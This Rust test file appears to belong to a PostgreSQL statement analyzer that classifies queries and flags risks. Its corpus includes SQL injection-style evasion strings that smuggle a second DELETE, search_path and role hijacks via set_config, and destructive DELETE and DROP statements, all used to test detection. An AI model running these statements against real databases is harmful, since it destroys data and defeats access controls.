        c("ANALYZE clinic.t", Utility).writes("clinic.t").reads(""),
        c("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Utility).writes("t"),
        c("VACUUM (FULL, ANALYZE) clinic.t, u (a)", Utility).writes("clinic.t, u"),
        c("vacuum analyze pgbench_branches", Utility).writes("pgbench_branches"),
        c("CLUSTER VERBOSE t USING t_pkey", Ddl).writes("t"),
        c("REINDEX TABLE CONCURRENTLY clinic.t", Utility).writes("clinic.t"),
        c("REFRESH MATERIALIZED VIEW CONCURRENTLY mv WITH DATA", Ddl).writes("mv"),
        c("copy pgbench_accounts from stdin with (freeze on)", CopyIn).writes("pgbench_accounts"),
        // ---- side-effect functions called from a SELECT ----------------------------
        c("SELECT pg_sleep(10)", Read).functions("pg_sleep").risks(&[SideEffectFunction]),
        c("SELECT pg_catalog.pg_sleep_for('1 minute')", Read).risks(&[SideEffectFunction]),
        c("SELECT nextval('myseq')", Read).writes("myseq").risks(&[SideEffectFunction]),
        c("SELECT setval('Clinic.\"MySeq\"', 1)", Read).writes("clinic.MySeq").risks(&[SideEffectFunction]),
        c("SELECT currval('s')", Read).reads("s"),
        c("INSERT INTO t VALUES (nextval('t_id_seq'), 'x')", Write).writes("t, t_id_seq").risks(&[SideEffectFunction]),
        c("SELECT 1 FROM t WHERE pg_sleep(1) IS NOT NULL", Read).reads("t").risks(&[SideEffectFunction]),
        c("SELECT 1 FROM t ORDER BY pg_sleep(1)", Read).risks(&[SideEffectFunction]),
        c("VALUES (pg_sleep(1))", Read).risks(&[SideEffectFunction]),
        c("SELECT 1 FROM t WHERE a IN (VALUES (pg_sleep(1)))", Read).risks(&[SideEffectFunction]),
        c("SELECT CASE WHEN (SELECT 1 FROM c) = 1 THEN pg_sleep(1) END", Read).reads("c").risks(&[SideEffectFunction]),
        c("SELECT * FROM (SELECT pg_advisory_lock(1)) s", Read).risks(&[SideEffectFunction]),
        c("SELECT lo_unlink(16385)", Read).risks(&[SideEffectFunction]),
        c("SELECT pg_notify('ch', 'x')", Read).risks(&[SideEffectFunction]),
        c("SELECT set_config('search_path', 'evil', false)", Read).functions("set_config").risks(&[SideEffectFunction, SearchPathChange]),
        c("SELECT pg_catalog.set_config('SEARCH_PATH', 'evil', true)", Read).risks(&[SideEffectFunction, SearchPathChange]),
        c("SELECT set_config('search' || '_path', 'evil', true)", Read).risks(&[SideEffectFunction, SearchPathChange]),
        c("SELECT set_config('client_encoding', 'SJIS', false)", Read).risks(&[SideEffectFunction, ClientEncodingChange]),
        c("SELECT set_config('role', 'admin', false)", Read).risks(&[SideEffectFunction, RoleChange]),
        c("SELECT set_config('session_authorization', 'bob', false)", Read).risks(&[SideEffectFunction, RoleChange]),
        c("SELECT set_config('work_mem', '1GB', false)", Read).risks(&[SideEffectFunction]),
        c("SELECT set_config(name, 'x', false) FROM settings", Read).reads("settings").risks(&[SideEffectFunction, SearchPathChange, ClientEncodingChange, RoleChange]),
        c("SELECT x FROM t WHERE y = (SELECT set_config('search_path', 'evil', true))", Read).risks(&[SideEffectFunction, SearchPathChange]),
        c("SELECT query_to_xml('select * from secret', true, false, '')", Read).reads("secret").functions("query_to_xml"),
        c("SELECT table_to_xml('clinic.patients', true, false, '')", Read).reads("clinic.patients"),
        c("SELECT * FROM crosstab('select a, b, c from secret order by 1') AS ct(a int, b int)", Read).reads("secret").functions("crosstab"),
        c("SELECT schema_to_xml('Clinic', true, false, '')", Read).reads("Clinic.*"),
        // ---- evasions: comments, case, quoting, dollar quotes, several statements -----
        c("/* comment */ DELETE /* x */ FROM t -- trailing", Write).writes("t").risks(&[DeleteWithoutWhere]),
        c("-- leading\nDELETE FROM t\n-- trailing", Write).risks(&[DeleteWithoutWhere]),
        c("SELECT /* nested /* deeper */ still comment */ 1", Read),
        c("SELECT 1 /* /* */ ; DELETE FROM t; */", Read),
        c("DeLeTe FrOm T", Write).writes("t").risks(&[DeleteWithoutWhere]),
        c("DELETE FROM \"T\" WHERE \"id\" = 1", Write).writes("T"),
        c("delete from \"CLINIC\".\"Patients\" where true", Write).writes("CLINIC.Patients").risks(&[DeleteWithoutWhere]),
        c("SELECT E'\\'; DELETE FROM t; --'", Read),
        c("SELECT $$;DELETE FROM t;$$", Read),
        c("SELECT $tag$ $$ ; DELETE FROM t; $$ $tag$", Read),
        // With standard_conforming_strings on, '\' is a whole string: PostgreSQL runs the DELETE.
        c("SELECT '\\'; DELETE FROM t; --'", Read).then(Write).writes("t").risks(&[DeleteWithoutWhere]),
        c("SELECT 1 AS a$b$; DELETE FROM t WHERE id = 1; SELECT 1 AS c$b$", Read).then(Write).writes("t").then(Read),
        c("SELECT 1; DELETE FROM t", Read).then(Write).risks(&[DeleteWithoutWhere]),
        c("SELECT 1;;; SELECT 2;", Read).then(Read),
        c("SELECT 1; DO $$ BEGIN END $$; SELECT 2", Read).then(Procedural).then(Read),
        c("SET SCHEMA 'evil'; TABLE patients; ALTER SYSTEM SET x = 1; DELETE FROM t", Session).risks(&[SearchPathChange])
            .then(Read).reads("patients").then(Admin).then(Write).risks(&[DeleteWithoutWhere]),
        c("BEGIN; SET LOCAL ROLE admin; DROP TABLE t; COMMIT", Transaction).then(Session).risks(&[RoleChange]).then(Ddl).risks(&[Drop]).then(Transaction),
        c("SELECT \"a;b\" FROM t", Read).reads("t"),
        c("SELECT 'non\u{a0}breaking' FROM \"pat\u{a0}ients\" -- \u{a0}", Read).reads("pat\u{a0}ients"),
        empty(""),
        empty("   ;; ;"),
        empty("-- only a comment"),
        empty("/* only /* a */ comment */"),
        // ---- the safe side over sqlparser's parse ---------------------------------
        unparsed("SELECT 1; FOO BAR"),
        unparsed("SELECT 'unterminated"),
        unparsed("SELECT 1 /* unterminated"),
        // sqlparser's parse_statements silently stops at a stray END.
        unparsed("SELECT 1 END; DELETE FROM t"),
        // sqlparser 0.63 read ONLY as the table name (t its alias) or, before a
        // parenthesis, as a function, and the real table vanished; 0.64 reads it.
        c("SELECT * FROM ONLY t", Read).reads("t"),
        c("SELECT * FROM ONLY (patients)", Read).reads("patients"),
        c("DELETE FROM ONLY patients", Write).writes("patients").risks(&[DeleteWithoutWhere]),
        c("UPDATE ONLY patients SET a = 1 WHERE id = 1", Write).writes("patients"),
        // sqlparser drops the quoting of TABLE's name and swallows the next two tokens.
        c("CREATE TABLE x AS TABLE t", Ddl).classes(&[Ddl, Read]).writes("x").reads("t"),
        c("SELECT * FROM a UNION ALL TABLE b", Read).reads("a, b"),
        c("WITH d AS (TABLE clinic.t) SELECT * FROM d", Read).reads("clinic.t"),
        // A SELECT INTO with no columns: PostgreSQL creates t2 from t.
        c("SELECT INTO t2 FROM t", Ddl).classes(&[Ddl, Read]).writes("t2").reads("t"),
        // The cursor's row: one row, not every row.
        c("UPDATE t SET a = 1 WHERE CURRENT OF c", Write).writes("t"),
        c("DELETE FROM t WHERE CURRENT OF c", Write).writes("t"),
        // Forms sqlparser does not know: refused rather than guessed.
        unparsed("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC; SELECT 1; END"),
        unparsed("CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$"),
        unparsed("VACUUM t WHERE true"),
        unparsed("SELECT f(VARIADIC ARRAY[1])"),
        unparsed("COPY t FROM STDIN WHERE a > 1"),
        unparsed("SELECT U&'d\\0061t\\+000061' UESCAPE '!'"),
        unparsed("SET SCHEMA evil"),
        unparsed("SET CONSTRAINTS ALL DEFERRED; DELETE"),
        unparsed("SET CONSTRAINTS f() DEFERRED"),
        // PostgreSQL reads a non-breaking space as part of the name `pat<NBSP>ients`;
        // sqlparser would read table `pat` aliased `ients`.
        unparsed("SELECT * FROM pat\u{a0}ients"),
        // Other dialects' statements PostgreSQL would reject.
        unparsed("USE clinic"),
        unparsed("DESC SELECT 1"),
        unparsed("ATTACH DATABASE 'x.db' AS x"),
        unparsed("SHOW CREATE TABLE t"),
    ]
}

fn object_names(set: &BTreeSet<ObjectRef>) -> BTreeSet<String> {
    set.iter().map(ToString::to_string).collect()
}

fn owned(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

/// Every way `got` differs from `want`.
fn mismatches(want: &Expect, got: &StatementAnalysis) -> Vec<String> {
    let mut out = Vec::new();
    if got.class != want.class {
        out.push(format!("class {:?}, want {:?}", got.class, want.class));
    }
    if let Some(classes) = &want.classes {
        let want: BTreeSet<StatementClass> = classes.iter().copied().collect();
        if got.classes != want {
            out.push(format!("classes {:?}, want {want:?}", got.classes));
        }
    }
    if !got.classes.contains(&got.class) || got.classes.iter().any(|c| c.rank() > got.class.rank())
    {
        out.push(format!(
            "primary class {:?} is not the highest of {:?}",
            got.class, got.classes
        ));
    }
    let mut check = |what: &str, want: &Option<Vec<&str>>, got: BTreeSet<String>| {
        if let Some(want) = want
            && owned(want) != got
        {
            out.push(format!("{what} {got:?}, want {:?}", owned(want)));
        }
    };
    check("reads", &want.reads, object_names(&got.reads));
    check("writes", &want.writes, object_names(&got.writes));
    check("functions", &want.functions, got.functions.clone());
    let want_risks: BTreeSet<Risk> = want.risks.iter().copied().collect();
    if got.risks != want_risks {
        out.push(format!("risks {:?}, want {:?}", got.risks, want_risks));
    }
    if let Some(prepared) = &want.prepared
        && &got.prepared != prepared
    {
        out.push(format!("prepared {:?}, want {prepared:?}", got.prepared));
    }
    out
}

#[test]
fn corpus_is_classified_as_expected() {
    let cases = corpus();
    let mut failures = Vec::new();
    for case in &cases {
        let got = analyze(case.sql);
        let problems: Vec<String> = match (&case.expect, &got) {
            (None, Analysis::Unparsed { .. }) => Vec::new(),
            (None, Analysis::Parsed { statements }) => {
                vec![format!("parsed into {statements:?}, want unparsed")]
            }
            (Some(_), Analysis::Unparsed { error }) => vec![format!("unparsed: {error}")],
            (Some(want), Analysis::Parsed { statements }) if want.len() != statements.len() => {
                vec![format!(
                    "{} statements, want {}: {statements:?}",
                    statements.len(),
                    want.len()
                )]
            }
            (Some(want), Analysis::Parsed { statements }) => want
                .iter()
                .zip(statements)
                .enumerate()
                .flat_map(|(i, (w, g))| {
                    mismatches(w, g)
                        .into_iter()
                        .map(move |m| format!("statement {}: {m}", i + 1))
                })
                .collect(),
        };
        if !problems.is_empty() {
            failures.push(format!("{:?}\n    {}", case.sql, problems.join("\n    ")));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases mismatch:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

#[test]
fn corpus_covers_every_class_and_risk() {
    let cases = corpus();
    let statements: Vec<&Expect> = cases
        .iter()
        .flat_map(|c| c.expect.iter().flatten())
        .collect();
    assert!(
        statements.len() >= 170,
        "only {} statements",
        statements.len()
    );
    // FunctionCall is the legacy protocol message, never SQL text.
    for class in StatementClass::ALL
        .into_iter()
        .filter(|c| *c != FunctionCall)
    {
        assert!(
            statements.iter().any(|e| e.class == class),
            "no case of class {class:?}"
        );
    }
    for risk in [
        UpdateWithoutWhere,
        DeleteWithoutWhere,
        Truncate,
        Drop,
        DropCascade,
        AlterType,
        RoleChange,
        PrivilegeChange,
        SideEffectFunction,
        DataModifyingCte,
        SearchPathChange,
        ClientEncodingChange,
    ] {
        assert!(
            statements.iter().any(|e| e.risks.contains(&risk)),
            "no case with risk {risk:?}"
        );
    }
}

#[test]
fn fingerprints_are_stable_hex_and_literal_blind() {
    let fp = |sql: &str| match analyze(sql) {
        Analysis::Parsed { statements } => statements[0].fingerprint.clone(),
        other => panic!("{sql}: {other:?}"),
    };
    assert_eq!(fp("select 1"), fp("SELECT 2"));
    assert_eq!(
        fp("SELECT * FROM t WHERE id = 1"),
        fp("select * from T where ID = 42")
    );
    assert_ne!(fp("select 1 from a"), fp("select 1 from b"));
    assert_ne!(fp("SELECT a FROM t"), fp("SELECT b FROM t"));
    let f = fp("SELECT 1");
    assert_eq!(f.len(), 16);
    assert!(f.chars().all(|c| c.is_ascii_hexdigit()));
    // Stable across runs and builds: pinned.
    assert_eq!(f, fp("select 1"));
}

/// PREPARE keeps the inner statement as sqlparser prints it, and the ingress
/// re-analyses that text at EXECUTE: printing must not change what a statement is.
#[test]
fn prepared_text_analyses_like_the_original() {
    let mut failures = Vec::new();
    let mut checked = 0;
    for case in corpus() {
        let Some([only]) = case.expect.as_deref() else {
            continue;
        };
        let head = case.sql.split_whitespace().next().unwrap_or("");
        let preparable = [
            "SELECT", "INSERT", "UPDATE", "DELETE", "MERGE", "VALUES", "WITH",
        ]
        .iter()
        .any(|k| head.eq_ignore_ascii_case(k));
        if !preparable || only.class == Prepared {
            continue;
        }
        let original = match analyze(case.sql) {
            Analysis::Parsed { statements } => statements[0].clone(),
            other => panic!("{}: {other:?}", case.sql),
        };
        let sql = format!("PREPARE gh_check AS {}", case.sql);
        let inner_sql = match analyze(&sql) {
            Analysis::Parsed { statements } => match &statements[0].prepared {
                Some(PreparedOp::Prepare { inner_sql, .. }) => inner_sql.clone(),
                other => panic!("{sql}: {other:?}"),
            },
            other => panic!("{sql}: {other:?}"),
        };
        checked += 1;
        match analyze(&inner_sql) {
            Analysis::Parsed { statements } if statements.len() == 1 => {
                let again = &statements[0];
                if (
                    again.class,
                    &again.reads,
                    &again.writes,
                    &again.functions,
                    &again.risks,
                ) != (
                    original.class,
                    &original.reads,
                    &original.writes,
                    &original.functions,
                    &original.risks,
                ) {
                    failures.push(format!(
                        "{:?} printed as {inner_sql:?}: {again:?} vs {original:?}",
                        case.sql
                    ));
                }
            }
            other => failures.push(format!(
                "{:?} printed as {inner_sql:?}: {other:?}",
                case.sql
            )),
        }
    }
    assert!(checked >= 100, "only {checked} checked");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A small deterministic generator (no dependency): xorshift64.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

#[test]
fn mangled_statements_never_panic() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static PANICS: AtomicUsize = AtomicUsize::new(0);
    let previous = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        PANICS.fetch_add(1, Ordering::SeqCst);
        previous(info);
    }));

    const NOISE: &[&[u8]] = &[
        b"'",
        b"\"",
        b"$$",
        b"$a$",
        b"(",
        b")",
        b";",
        b"/*",
        b"*/",
        b"--",
        b"\\",
        b"E'",
        b"::",
        b" WITH d AS (DELETE FROM t RETURNING *) ",
        b"\0",
        b"\xff",
        b"\xc3",
        b" END ",
        b"[",
    ];
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut count = 0;
    for case in corpus() {
        let original = case.sql.as_bytes();
        for round in 0..6 {
            let mut b = original.to_vec();
            match round {
                0 => b.truncate(rng.below(b.len() + 1)),
                1 if b.len() > 1 => {
                    let i = rng.below(b.len() - 1);
                    b.swap(i, i + 1);
                }
                2 if !b.is_empty() => {
                    let (i, j) = (rng.below(b.len()), rng.below(b.len()));
                    b.swap(i, j);
                }
                3 => {
                    let at = rng.below(b.len() + 1);
                    let noise = NOISE[rng.below(NOISE.len())];
                    b.splice(at..at, noise.iter().copied());
                }
                4 if !b.is_empty() => {
                    b.remove(rng.below(b.len()));
                }
                _ => {
                    let at = rng.below(b.len() + 1);
                    b = [&b[at..], b";", &b[..at]].concat();
                }
            }
            let text = String::from_utf8_lossy(&b);
            let _ = analyze(&text);
            count += 1;
        }
    }
    let _ = std::panic::take_hook();
    assert!(count >= 300, "only {count} variants");
    assert_eq!(PANICS.load(Ordering::SeqCst), 0, "analyze panicked");
}

/// The verdict cache shares a verdict among texts of one shape
/// (`gatehouse_decider::shape`, a scanner of its own). Sound only if the
/// scanner never puts together texts that sqlparser's tokenizer tells apart:
/// checked over the corpus, its SELECTs with their literals changed, and
/// byte-level mutations of them.
#[test]
fn shapes_never_merge_texts_the_tokenizer_tells_apart() {
    use gatehouse_decider::shape::{shape, tokenizer_shape};
    use std::collections::HashMap;

    const PIECES: &[&[u8]] = &[
        b"'",
        b"''",
        b"\"",
        b"$",
        b"$1",
        b"$$",
        b"1",
        b"1.5",
        b"e5",
        b".",
        b"::",
        b"-",
        b"--",
        b"/*",
        b"*",
        b"\\",
        b" ",
        b"\n",
        b";",
        b"E",
        b"U&",
        b"x",
        b"_",
        b"\xc2\xa0",
    ];
    let mut texts: Vec<String> = corpus().iter().map(|c| c.sql.to_owned()).collect();
    texts.extend(
        [
            "SELECT abalance FROM pgbench_accounts WHERE aid = 48213",
            "select a from t where b = 'x' and c = $2 and d = 1e5",
            "select \"A\".b, 'x'::text, f(1, 'y') from \"A\"",
            "select a from t where b = E'x'",
            "select a from t where b = 'x' 'y'",
            "select a from t where b = 'x'\n'y'",
            "select a from t where b =- 1",
            "select a from t where b = - 1",
            "select 1 from t limit $1",
            "select a$1 from t",
        ]
        .map(str::to_owned),
    );
    let mut rng = Rng(0x5eed_cafe_f00d_d00d);
    let selects: Vec<String> = texts
        .iter()
        .filter(|t| t.trim_start().to_ascii_lowercase().starts_with("select"))
        .cloned()
        .collect();
    for text in &selects {
        for _ in 0..30 {
            let mut b = text.clone().into_bytes();
            // Literal values changed (digits), and bytes spliced in.
            for c in b.iter_mut() {
                if c.is_ascii_digit() && rng.below(2) == 0 {
                    *c = b'0' + rng.below(10) as u8;
                }
            }
            if rng.below(2) == 0 {
                let at = rng.below(b.len() + 1);
                let piece = PIECES[rng.below(PIECES.len())];
                b.splice(at..at, piece.iter().copied());
            }
            texts.push(String::from_utf8_lossy(&b).into_owned());
        }
    }
    let mut by_shape: HashMap<String, (String, Option<String>)> = HashMap::new();
    let mut shaped = 0;
    let mut failures = Vec::new();
    for text in &texts {
        let Some(s) = shape(text) else { continue };
        shaped += 1;
        let reference = tokenizer_shape(text);
        match by_shape.get(&s) {
            Some((first, r)) if *r != reference => failures.push(format!(
                "{first:?} and {text:?} share shape {s:?}, the tokenizer says {r:?} and {reference:?}"
            )),
            Some(_) => {}
            None => {
                by_shape.insert(s, (text.clone(), reference));
            }
        }
    }
    assert!(shaped >= 1000, "only {shaped} texts have a shape");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
